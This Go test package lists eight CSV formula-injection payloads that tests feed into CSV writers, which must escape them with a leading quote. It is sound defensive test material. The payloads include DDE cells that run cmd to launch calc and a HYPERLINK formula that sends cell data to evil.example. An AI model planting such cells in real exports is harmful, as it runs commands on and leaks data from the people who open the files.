// Package csvcelltest holds the formula-injection payloads the tests of every CSV writer feed
// into names, notes, tags, custom fields and headers.
package csvcelltest

// Payloads are eight cells a spreadsheet would run as formulas (OWASP's CSV injection
// examples among them); each must come out of a CSV writer with a leading single quote.
var Payloads = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`+SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`=1+1`,
}
